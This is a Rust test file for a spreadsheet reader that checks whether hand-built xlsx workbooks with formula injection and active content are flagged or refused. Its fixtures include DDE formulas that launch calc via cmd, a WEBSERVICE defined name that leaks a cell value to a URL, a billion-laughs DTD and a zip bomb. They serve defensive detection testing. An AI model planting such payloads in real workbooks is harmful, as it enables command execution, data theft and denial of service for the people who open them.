//! The sheet reader's tests, and the hand-made workbooks other checks' tests use.

use super::*;
use std::io::Write;

/// A minimal workbook: `sheets` as (name, sheet XML body inside `<sheetData>`), an
/// optional shared-strings part and extra parts.
pub(crate) fn workbook(sheets: &[(&str, &str)], extra: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    let put = |zip: &mut zip::ZipWriter<Cursor<Vec<u8>>>, path: &str, body: &[u8]| {
        zip.start_file(path, opts).unwrap();
        zip.write_all(body).unwrap();
    };
    let mut types = String::from(
        r#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>"#,
    );
    let mut wb = String::from(
        r#"<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>"#,
    );
    let mut rels = String::from(
        r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">"#,
    );
    for (i, (sheet, _)) in sheets.iter().enumerate() {
        let n = i + 1;
        types.push_str(&format!(r#"<Override PartName="/xl/worksheets/sheet{n}.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>"#));
        wb.push_str(&format!(
            r#"<sheet name="{}" sheetId="{n}" r:id="rId{n}"/>"#,
            sheet
                .replace('&', "&amp;")
                .replace('"', "&quot;")
                .replace('<', "&lt;")
        ));
        rels.push_str(&format!(r#"<Relationship Id="rId{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet{n}.xml"/>"#));
    }
    types.push_str("</Types>");
    wb.push_str("</sheets></workbook>");
    rels.push_str("</Relationships>");
    put(&mut zip, "[Content_Types].xml", types.as_bytes());
    put(&mut zip, "_rels/.rels", br#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#);
    put(&mut zip, "xl/workbook.xml", wb.as_bytes());
    put(&mut zip, "xl/_rels/workbook.xml.rels", rels.as_bytes());
    for (i, (_, body)) in sheets.iter().enumerate() {
        let xml = format!(
            r#"<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{body}</sheetData></worksheet>"#
        );
        put(
            &mut zip,
            &format!("xl/worksheets/sheet{}.xml", i + 1),
            xml.as_bytes(),
        );
    }
    for (path, body) in extra {
        put(&mut zip, path, body);
    }
    zip.finish().unwrap().into_inner()
}

/// Inline-string and number cells of one row.
pub(crate) fn row(r: u32, cells: &[&str]) -> String {
    let mut s = format!(r#"<row r="{r}">"#);
    for (c, v) in cells.iter().enumerate() {
        let at = a1(r - 1, c as u32);
        if v.is_empty() {
            continue;
        }
        if let Some(f) = v.strip_prefix("f:") {
            s.push_str(&format!(r#"<c r="{at}"><f>{f}</f><v>0</v></c>"#));
        } else if v.parse::<f64>().is_ok() && !v.starts_with('\'') {
            s.push_str(&format!(r#"<c r="{at}"><v>{v}</v></c>"#));
        } else {
            let text = v.trim_start_matches('\'');
            s.push_str(&format!(
                r#"<c r="{at}" t="inlineStr"><is><t>{text}</t></is></c>"#
            ));
        }
    }
    s.push_str("</row>");
    s
}

#[test]
fn cell_names() {
    assert_eq!(a1(0, 0), "A1");
    assert_eq!(a1(6, 2), "C7");
    assert_eq!(a1(9, 26), "AA10");
    assert_eq!(a1(0, 16_383), "XFD1");
}

#[test]
fn reads_a_sheet_by_name_or_the_first() {
    let body1 = [row(1, &["dept", "amount"]), row(2, &["R&amp;D", "1.5"])].concat();
    let body2 = [row(2, &["", "部门", "营收"]), row(3, &["", "研发", "100"])].concat();
    let wb = workbook(&[("Data", &body1), ("二", &body2)], &[]);
    let t = Table::read("s.xlsx", &wb, Select::default()).unwrap();
    assert_eq!(t.headers, ["dept", "amount"]);
    assert_eq!(t.rows[0], [Value::Text("R&D".into()), Value::Number(1.5)]);
    assert_eq!(t.cell(0, 1), "s.xlsx!Data!B2");
    let t = Table::read(
        "s.xlsx",
        &wb,
        Select {
            sheet: Some("二"),
            ..Default::default()
        },
    )
    .unwrap();
    assert_eq!(t.headers, ["部门", "营收"]);
    assert_eq!(t.cell(0, 1), "s.xlsx!二!C3");
    let err = Table::read(
        "s.xlsx",
        &wb,
        Select {
            sheet: Some("Sheet1"),
            ..Default::default()
        },
    )
    .unwrap_err();
    assert!(
        err.contains(r#"no sheet "Sheet1" (sheets: ["Data", "二"])"#),
        "{err}"
    );
    let err = t.column("部门名称").unwrap_err();
    assert!(err.contains(r#"columns: "部门", "营收""#), "{err}");
}

#[test]
fn a_header_below_a_title_is_named() {
    let body = [
        row(1, &["Cost allocation 2026"]),
        row(2, &[]),
        row(3, &["dept", "amount"]),
        row(4, &["hq", "5"]),
    ]
    .concat();
    let wb = workbook(&[("S", &body)], &[]);
    let t = Table::read("s.xlsx", &wb, Select::default()).unwrap();
    let err = t.column("amount").unwrap_err();
    assert!(
        err.contains("the header is row 3, not row 1 (header_row = 3)"),
        "{err}"
    );
    let t = Table::read(
        "s.xlsx",
        &wb,
        Select {
            header_row: Some(3),
            ..Default::default()
        },
    )
    .unwrap();
    assert_eq!(t.column("amount").unwrap(), 1);
    assert_eq!(t.cell(0, 1), "s.xlsx!S!B4");
}

#[test]
fn formula_tags_with_a_prefix_or_white_space_are_found() {
    // `<x:f/>` (a shared formula under a prefix) and `<f` then a line break: the
    // tag search that decides whether a sheet is parsed for formulas finds both.
    for cell in [
        r#"<c r="A1"><f>SUM(B1:B2)</f><v>0</v></c>"#,
        r#"<c r="A1"><f
>SUM(B1:B2)</f><v>0</v></c>"#,
        r#"<c r="A1"><f	t="normal">SUM(B1:B2)</f><v>0</v></c>"#,
    ] {
        let body = format!(r#"<row r="1">{cell}</row>"#);
        let found = formulas_found(&workbook(&[("S", &body)], &[]));
        assert_eq!(found.len(), 1, "{cell}: {found:?}");
    }
    // An element of another namespace named `c` inside the cell hides nothing from
    // the scan (calamine then refuses the cell): the `f` after it is a formula cell.
    let body = r#"<row r="1"><c r="A1"><z:c xmlns:z="urn:x"></z:c><f>1+1</f><v>2</v></c></row>"#;
    let parts =
        crate::validate::xlsx_parts::scan_parts("r.xlsx", &workbook(&[("S", body)], &[]), true);
    assert_eq!(parts.unwrap().formula_count, 1);
    let prefixed = r#"<?xml version="1.0"?><x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:sheetData><x:row r="1"><x:c r="A1"><x:f/><x:v>0</x:v></x:c></x:row></x:sheetData></x:worksheet>"#;
    let wb = workbook(&[("S", "")], &[]);
    let wb = replace_part(&wb, "xl/worksheets/sheet1.xml", prefixed.as_bytes());
    assert_eq!(formulas_found(&wb).len(), 1);
}

/// A worksheet with `rules` (conditional formats, validations) after one cell.
fn sheet_with(rules: &str) -> Vec<u8> {
    let xml = format!(
        r#"<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>{rules}</worksheet>"#
    );
    let wb = workbook(&[("S", "")], &[]);
    replace_part(&wb, "xl/worksheets/sheet1.xml", xml.as_bytes())
}

#[test]
fn what_runs_or_fetches_outside_the_cells_is_named() {
    let active = |wb: &[u8]| {
        let t = scanned(wb).unwrap();
        assert!(t.injections.is_empty(), "{:?}", t.injections);
        assert_eq!(t.active_count, t.active.len());
        t.active.join("\n")
    };
    // Rules that compute, as openpyxl and XlsxWriter write them: nothing found.
    let fine = sheet_with(concat!(
        r#"<conditionalFormatting sqref="A1:B9"><cfRule type="expression" dxfId="0" priority="1"><formula>$B2&gt;2000000</formula></cfRule></conditionalFormatting>"#,
        r#"<conditionalFormatting sqref="A1:A9"><cfRule type="expression" priority="2"><formula>MOD(ROW(),2)=0</formula></cfRule></conditionalFormatting>"#,
        r#"<dataValidations count="1"><dataValidation type="list" sqref="C2:C9"><formula1>&quot;open|closed&quot;</formula1></dataValidation></dataValidations>"#,
    ));
    assert_eq!(active(&fine), "");
    // Each door a rule outside the cells has, with what it calls, and each way of
    // hiding a character from a search (a reference, CDATA).
    for (rules, says) in [
        (
            r#"<conditionalFormatting sqref="A1:B2"><cfRule type="expression" priority="1"><formula>cmd|' /C calc'!A0</formula></cfRule></conditionalFormatting>"#,
            "r.xlsx!S: the conditional format on A1:B2 holds a DDE call",
        ),
        (
            r#"<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>cmd&#124;' /C calc'!A0</formula></cfRule></conditionalFormatting>"#,
            "DDE call",
        ),
        (
            r#"<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula><![CDATA[WEBSERVICE("http://127.0.0.1:9/")<>""]]></formula></cfRule></conditionalFormatting>"#,
            "the function WEBSERVICE",
        ),
        (
            r#"<dataValidations count="1"><dataValidation type="list" sqref="A2"><formula1>HYPERLINK(&quot;http://x&quot;)</formula1></dataValidation></dataValidations>"#,
            "r.xlsx!S: the data validation on A2 holds the function HYPERLINK",
        ),
        (
            r#"<dataValidations count="1"><dataValidation type="whole" sqref="A2"><formula1>0</formula1><formula2>[1]Rates!$A$1</formula2></dataValidation></dataValidations>"#,
            "a reference into another file",
        ),
        (
            r#"<extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}" xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"><x14:conditionalFormattings><x14:conditionalFormatting xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><x14:cfRule type="expression" priority="3"><xm:f>_xlfn.IMAGE("http://x/a.png")</xm:f></x14:cfRule><xm:sqref>A1</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst>"#,
            "a conditional format holds the function IMAGE",
        ),
    ] {
        let found = active(&sheet_with(rules));
        assert!(found.contains(says), "{rules}: {found:?}");
    }
    // A defined name that calls out; one that only refers, as print titles do.
    let names = r#"<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets><definedNames><definedName name="_xlnm.Print_Titles" localSheetId="0">S!$1:$1</definedName><definedName name="Rate">0.96</definedName><definedName name="Leak">WEBSERVICE(&quot;http://127.0.0.1:9/?&quot;&amp;S!$A$1)</definedName></definedNames></workbook>"#;
    let wb = replace_part(
        &workbook(&[("S", "")], &[]),
        "xl/workbook.xml",
        names.as_bytes(),
    );
    let found = active(&wb);
    assert!(
        found.contains("r.xlsx: the defined name Leak holds the function WEBSERVICE"),
        "{found}"
    );
    assert!(
        !found.contains("Print_Titles") && !found.contains("Rate"),
        "{found}"
    );
    // Parts that are macros, links or objects, whatever the sheets hold.
    let wb = workbook(
        &[("S", &row(1, &["1"]))],
        &[
            ("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 Auto_Open".as_slice()),
            ("xl/externalLinks/externalLink1.xml", br#"<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>"#.as_slice()),
            ("xl/embeddings/oleObject1.bin", b"ole".as_slice()),
        ],
    );
    let found = active(&wb);
    for says in [
        "r.xlsx holds xl/vbaProject.bin, a macro project",
        "xl/externalLinks/externalLink1.xml, a link to another workbook or a DDE server",
        "xl/embeddings/oleObject1.bin, an embedded object",
    ] {
        assert!(found.contains(says), "{says}: {found}");
    }
    // An input is read without the scan: its macros are no finding of its own.
    let t = Table::read("r.xlsx", &wb, Select::default()).unwrap();
    assert_eq!(t.active_count, 0);
}

/// Workbook `wb` read as an output is: its formulas and formula-like text sought.
fn scanned(wb: &[u8]) -> Result<Table, String> {
    let select = Select {
        injections: true,
        ..Default::default()
    };
    Table::read("r.xlsx", wb, select)
}

/// What the injection scan of workbook `wb` found.
fn formulas_found(wb: &[u8]) -> Vec<String> {
    let t = scanned(wb).unwrap();
    assert_eq!(t.injection_count, t.injections.len());
    t.injections
}

#[test]
fn a_sheet_name_given_twice_or_a_part_named_twice_is_refused() {
    // Cells are read by sheet name: a second sheet of one name would go unchecked.
    let hidden = [row(1, &["note"]), row(2, &["'=HYPERLINK(\"http://x\")"])].concat();
    let wb = workbook(&[("S", &row(1, &["a"])), ("s", &hidden)], &[]);
    let e = scanned(&wb).unwrap_err();
    assert!(e.contains(r#"names the sheet "s" twice"#), "{e}");
    // Two names for one part: it would be read once per name.
    let wb = workbook(&[("S", &row(1, &["a"])), ("T", &row(1, &["b"]))], &[]);
    let rels = r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#;
    let wb = replace_part(&wb, "xl/_rels/workbook.xml.rels", rels.as_bytes());
    let e = Table::read("r.xlsx", &wb, Select::default()).unwrap_err();
    assert!(e.contains("is named as more than one sheet"), "{e}");
}

/// `wb` with the part `path` holding `body`.
fn replace_part(wb: &[u8], path: &str, body: &[u8]) -> Vec<u8> {
    let mut from = zip::ZipArchive::new(Cursor::new(wb)).unwrap();
    let mut to = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for i in 0..from.len() {
        let mut part = from.by_index(i).unwrap();
        let name = part.name().to_string();
        let mut bytes = Vec::new();
        std::io::Read::read_to_end(&mut part, &mut bytes).unwrap();
        to.start_file(&name, zip::write::SimpleFileOptions::default())
            .unwrap();
        to.write_all(if name == path { body } else { &bytes })
            .unwrap();
    }
    to.finish().unwrap().into_inner()
}

#[test]
fn formulas_and_formula_like_text_are_found_in_every_sheet() {
    let body1 = [
        row(1, &["dept", "amount"]),
        row(2, &["hq", "-5"]),
        row(3, &["'-5", "f:SUM(B2:B2)"]),
    ]
    .concat();
    let body2 = [row(1, &["note"]), row(2, &["'=HYPERLINK(\"http://x\")"])].concat();
    let wb = workbook(&[("S", &body1), ("T", &body2)], &[]);
    let t = scanned(&wb).unwrap();
    let all = t.injections.join("\n");
    assert_eq!(t.injection_count, 3, "{all}");
    assert!(
        all.contains("r.xlsx!S!B3 holds the formula =SUM(B2:B2)"),
        "{all}"
    );
    assert!(all.contains(r#"r.xlsx!S!A3 is the text "-5""#), "{all}");
    assert!(all.contains("r.xlsx!T!A2 is the text"), "{all}");
    // A negative number stored as a number is no finding; in CSV "-5" reads as one.
    assert!(!all.contains("S!B2"));
    let t = Table::read(
        "r.csv",
        b"a,b\n-5,=1+2\n",
        Select {
            injections: true,
            ..Default::default()
        },
    )
    .unwrap();
    assert_eq!(
        t.injections,
        [r#"r.csv!B2 is the text "=1+2", which a spreadsheet program runs as a formula"#]
    );
}

#[test]
fn hostile_workbooks_are_refused_within_bounds() {
    // Not a zip.
    let err = Table::read("x.xlsx", b"PK\x03\x04 not really", Select::default()).unwrap_err();
    assert!(err.contains("not an xlsx workbook"), "{err}");
    // A DTD with entities (billion laughs) in the sheet.
    let laughs = br#"<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&lol2;</t></si></sst>"#;
    let wb = workbook(
        &[("S", &row(1, &["a"]))],
        &[("xl/sharedStrings.xml", laughs)],
    );
    let err = Table::read("x.xlsx", &wb, Select::default()).unwrap_err();
    assert!(err.contains("declares a DTD"), "{err}");
    // A shared-string count calamine would reserve memory for.
    let sst = br#"<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="999999999999"><si><t>a</t></si></sst>"#;
    let wb = workbook(&[("S", &row(1, &["a"]))], &[("xl/sharedStrings.xml", sst)]);
    let err = Table::read("x.xlsx", &wb, Select::default()).unwrap_err();
    assert!(err.contains("shared strings"), "{err}");
    // A cell far away: no rectangle is allocated for it.
    let body = [
        row(1, &["a"]),
        r#"<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>"#.to_string(),
    ]
    .concat();
    let err =
        Table::read("x.xlsx", &workbook(&[("S", &body)], &[]), Select::default()).unwrap_err();
    assert!(err.contains("more than the 2000000 cells"), "{err}");
    // A cell reference that overflows calamine's column arithmetic.
    let body = r#"<row r="1"><c r="AAAAAAAAAAAAAAAAAAAAAAAA1"><v>1</v></c></row>"#;
    assert!(Table::read("x.xlsx", &workbook(&[("S", body)], &[]), Select::default()).is_err());
}

#[test]
fn a_zip_bomb_is_refused_by_what_it_inflates_to() {
    // 300 MiB of one byte inflates from well under a megabyte.
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .large_file(true);
    zip.start_file("xl/workbook.xml", opts).unwrap();
    zip.write_all(b"<workbook><sheets><sheet name=\"S\" r:id=\"rId1\"/></sheets></workbook>")
        .unwrap();
    zip.start_file("xl/worksheets/sheet1.xml", opts).unwrap();
    let chunk = vec![b' '; 1 << 20];
    for _ in 0..300 {
        zip.write_all(&chunk).unwrap();
    }
    let bomb = zip.finish().unwrap().into_inner();
    assert!(bomb.len() < 2 << 20, "{}", bomb.len());
    let err = Table::read("bomb.xlsx", &bomb, Select::default()).unwrap_err();
    assert!(err.contains("zip bomb"), "{err}");
}
